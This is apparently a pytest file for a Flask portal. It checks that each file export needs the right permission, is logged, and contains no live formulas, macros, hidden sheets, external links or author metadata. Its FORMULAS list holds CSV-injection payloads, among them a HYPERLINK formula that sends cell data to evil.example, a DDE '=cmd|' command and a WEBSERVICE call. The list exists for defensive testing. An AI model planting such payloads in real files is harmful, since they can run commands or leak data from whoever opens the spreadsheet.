"""Every file that the portal gives out: who may have it, why, that it is logged, and that nothing in it comes alive.

A new one is found by walking the pages and the code, and has no entry here until somebody has thought about it.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from pypdf import PdfReader
from xlsxwriter import Workbook

from portal.access import GRANTS, Permission, Role
from portal.accounts.models import User
from portal.db import SYSTEM, db, enter_scope
from portal.sheets.writing import FORMULA
from tests.conftest import sign_in_client
from tests.hostile_text import plant
from tests.pages import NO_PAGE, list_pages
from tests.scene import make_scene

ROOT = Path(__file__).parent.parent
P = Permission


@dataclass(frozen=True)
class Export:
    """`kind`: what is counted by the hour (portal.limits), None where nothing of others is in it. `why`: the reason asked
    for, or why none is. `action`: how the log calls it."""

    permission: Permission
    kind: str | None
    action: str | None
    why: str


FIGURES = "published numbers, whoever asks: none is asked"
EXPORTS = {
    "turnaround_files.download": Export(P.SEE_TURNAROUND, "figures", "turnaround.export", FIGURES),
    "turnaround_files.download_pdf": Export(P.SEE_TURNAROUND, "figures", "turnaround.export", FIGURES),
    "charts.download": Export(P.SEE_TURNAROUND, "figures", "turnaround.export", FIGURES),
    "needs.download": Export(P.SEE_NEEDS, "figures", "needs.export", FIGURES),
    "quality_files.export": Export(P.IMPORT_PEOPLE, "people", "quality.exported", "asked in the form"),
    "person_copy.take_pdf": Export(P.ERASE_PEOPLE, "people", "copy.taken", "asked when the copy is begun"),
    "person_copy.take_json": Export(P.ERASE_PEOPLE, "people", "copy.taken", "asked when the copy is begun"),
    "meetings.show_pdf": Export(
        P.SEE_MEETINGS, "people", "meeting.printed", "the meeting, which is in the entry"
    ),
    "extracts.download_refused": Export(
        P.IMPORT_PEOPLE, "people", "extract.refused_read", "their own file’s rows, to put them right"
    ),
    "history.download_findings": Export(
        P.IMPORT_HISTORY, "people", "history.findings_taken", "what is wrong with their own file"
    ),
    "appointments.calendar_file": Export(
        P.SEE_REFERRALS, None, "referral.read", "one appointment, without a name: a reference and a place"
    ),
    "access_log.export": Export(P.ADMINISTER, "log", "access_log.exported", "asked in the form"),
    "factors.show_qr_code": Export(P.SIGNED_IN, None, None, "one’s own, while it is set up"),
    "extracts.download_template": Export(P.IMPORT_PEOPLE, None, None, "headings alone"),
    "history.download_template": Export(P.IMPORT_HISTORY, None, None, "headings alone"),
}
Clients = Callable[[User], FlaskClient]


def test_every_file_has_an_entry_here(app: Flask, database: None, client_for: Clients) -> None:
    scene = make_scene()
    clients = {role: client_for(db.session.get_one(User, user)) for role, user in scene["users"].items()}  # type: ignore[attr-defined]
    found = NO_PAGE - {"static", "health.healthz", "health.readyz", "scrape.metrics"}
    adapter = app.url_map.bind("localhost")
    seen: set[str] = set()
    for role, path in list_pages(app, scene):
        endpoint = adapter.match(path.partition("?")[0], "GET")[0]
        if role is None or endpoint in seen:
            continue
        answer = clients[role].get(path)
        if answer.status_code == 200:
            seen.add(str(endpoint))
        if answer.status_code == 200 and answer.mimetype != "text/html":
            found.add(str(endpoint))
    found |= {name for name, view in app.view_functions.items() if view.__dict__.get("portal_file")}
    assert found == EXPORTS.keys()


def test_every_place_that_makes_a_file_is_known() -> None:
    """By its header, as a form's answer is no page that a walk could find."""
    made = {
        str(path.relative_to(ROOT / "portal"))
        for path in (ROOT / "portal").rglob("*.py")
        if re.search(r"Content-Disposition|send_file|as_attachment", path.read_text(encoding="utf-8"))
    }
    assert made == {
        "accounts/factor_views.py", "appointments/views.py", "keeping/copy_views.py", "meetings/views.py", "needs/views.py",
        "quality/export_views.py", "register/extract_views.py", "turnaround/chart_views.py",
        "turnaround/file_views.py", "turnaround/history_views.py", "trace/log_views.py",
    }  # fmt: skip


def test_each_is_for_its_role_and_counted(app: Flask) -> None:
    for endpoint, export in EXPORTS.items():
        view = app.view_functions[endpoint].__dict__
        assert view["portal_permissions"] == {export.permission}, endpoint
        assert view.get("portal_file") == export.kind, endpoint
        assert export.why
    people = {export.permission for export in EXPORTS.values() if export.kind == "people"}
    assert not any(GRANTS[role] & people for role in (Role.ANALYST, Role.ADMINISTRATOR))


FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠x",
    "=HYPERLINK(\"http://evil.example?x=\"&A1)", "=cmd|'/c calc'!A0", "=WEBSERVICE(\"http://evil.example\")",
    "'=1+1", "\"=1+1", ";=1+1", ",=1+1", "{=1+1}", "https://evil.example", "mailto:x@evil.example",
)  # fmt: skip


@pytest.fixture
def files(committed_app: Flask) -> dict[str, bytes]:
    """Every file that an IOM manager can have of a scene in which each word is a formula, by its address."""
    app = committed_app
    with app.app_context():
        enter_scope(SYSTEM)
        scene: dict[str, Any] = make_scene()
        plant(FORMULAS)
        enter_scope(SYSTEM)
        manager = db.session.get_one(User, scene["users"][Role.IOM_MANAGER])
        client = sign_in_client(app, manager)
        db.session.remove()
    copy = f"/people/{scene['person_id']}/copy/{scene['copy_id']}"
    made = {}
    for path in (
        *(f"/turnaround/files/{name}" for name in ("all.xlsx", "summary.csv", "declines.csv", "turnaround.pdf")),
        "/needs/files/needs.csv", "/needs/files/needs.xlsx", f"/meetings/{scene['meeting_id']}/pack.pdf",
        *(f"/register/extracts/{number}/refused.csv" for number in scene["extract_ids"]),
        f"/turnaround/history/files/{scene['upload']}/findings.csv", f"{copy}/copy.pdf", f"{copy}/copy.json",
    ):  # fmt: skip
        answer = client.get(path)
        assert answer.status_code in (200, 302, 404, 422), (path, answer.status_code)
        if answer.status_code == 200:
            made[path] = answer.data
    for kind in ("csv", "xlsx"):
        answer = client.post("/register/quality/export", data={"reason": "audit", "kind": kind})
        assert answer.status_code == 200
        made[f"/register/quality/export.{kind}"] = answer.data
    return made


def test_nothing_in_a_file_comes_alive(files: dict[str, bytes], tmp_path: Path) -> None:
    kinds = {path.rpartition(".")[2] for path in files}
    assert {"csv", "xlsx", "pdf"} <= kinds
    cells = sum(
        _cells_of_csv(path, content) if path.endswith(".csv") else _cells_of_workbook(path, content, tmp_path)
        for path, content in files.items()
        if path.endswith((".csv", ".xlsx"))
    )
    assert cells > 500
    assert any(b"'=1+1" in content for content in files.values())  # some were there to come alive
    for path, content in files.items():
        if path.endswith(".pdf"):
            _nobody_in_the_pdf(path, content)


def _cells_of_csv(path: str, content: bytes) -> int:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for cell in (cell for row in rows for cell in row):
        number = re.fullmatch(r"-?[0-9.]+", cell)
        assert number or not cell.lstrip(" \ufeff").startswith(FORMULA), (path, cell)
    return sum(map(len, rows))


def _cells_of_workbook(path: str, content: bytes, folder: Path) -> int:
    _parts_of_workbook(path, content)
    book = load_workbook(io.BytesIO(content))
    assert all(sheet.sheet_state == "visible" for sheet in book), path
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink or cell.comment], path
    again = folder / "again.xlsx"
    book.save(again)  # as somebody does who opens it and saves it
    later = load_workbook(again)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for sheet in later:
        for row in sheet.iter_rows():
            assert not [cell.value for cell in row if cell.data_type == "f" and cell.value not in texts], path
    return len(cells)


def _parts_of_workbook(path: str, content: bytes) -> None:
    """By the file itself, as a program reads it that is not openpyxl."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        names = parts.namelist()
        odd = [
            n
            for n in names
            if re.search(r"vba|comment|external|embed|connection|activeX|customXml|drawing", n)
        ]
        assert not odd, (path, odd)
        for name in names:
            text = parts.read(name).decode("utf-8", errors="replace")
            assert "<f>" not in text, (path, name)
            assert "<f " not in text, (path, name)
            assert 'state="hidden"' not in text, (path, name)
            assert 'TargetMode="External"' not in text, (path, name)
        core = parts.read("docProps/core.xml").decode()
    for tag in ("dc:creator", "cp:lastModifiedBy", "cp:keywords", "dc:description"):
        assert re.search(rf"<{tag}>[^<]+</{tag}>", core) is None, (path, core)


def _nobody_in_the_pdf(path: str, content: bytes) -> None:
    about = PdfReader(io.BytesIO(content)).metadata or {}
    assert not {"/Author", "/Keywords", "/Subject"} & about.keys(), (path, about)


def test_the_check_sees_a_live_formula(tmp_path: Path) -> None:
    made = io.BytesIO()
    book = Workbook(made, {"in_memory": True})
    book.add_worksheet().write(0, 0, "=1+1")
    book.close()
    with pytest.raises(AssertionError):
        _cells_of_workbook("planted", made.getvalue(), tmp_path)
    with pytest.raises(AssertionError):
        _cells_of_csv("planted", b"a,=1+1\n")
